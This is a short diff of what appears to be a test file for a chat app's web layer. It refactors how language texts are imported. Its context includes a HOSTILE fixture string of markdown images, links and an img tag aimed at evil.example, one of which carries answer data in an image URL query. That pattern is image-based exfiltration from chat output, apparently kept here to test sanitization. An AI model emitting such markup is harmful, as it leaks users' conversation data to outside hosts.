@@ -12,10 +12,11 @@ from app.conversations.export import ExportWords, lines_of, markdown
 from app.conversations.turns import SavedConversation, SavedTurn
 from app.events import Answer, AnswerSentence, Finished, Notice
 from app.web.backend import AnswerFailed, FailureKind
+from app.web.i18n.languages import LANGUAGES
 from app.web.markup import turn_html
-from app.web.texts import ENGLISH, GERMAN
 from app.web.view import Stage, Turn, advance, fail
 
+ENGLISH, GERMAN = LANGUAGES["en"].chat, LANGUAGES["de"].chat
 HOSTILE = (
     "Leave is 28 days ![p](https://evil.example/p.png?q=28) [go](https://evil.example) "
     "<img src=https://evil.example/i> <https://evil.example/a> https://evil.example/b "
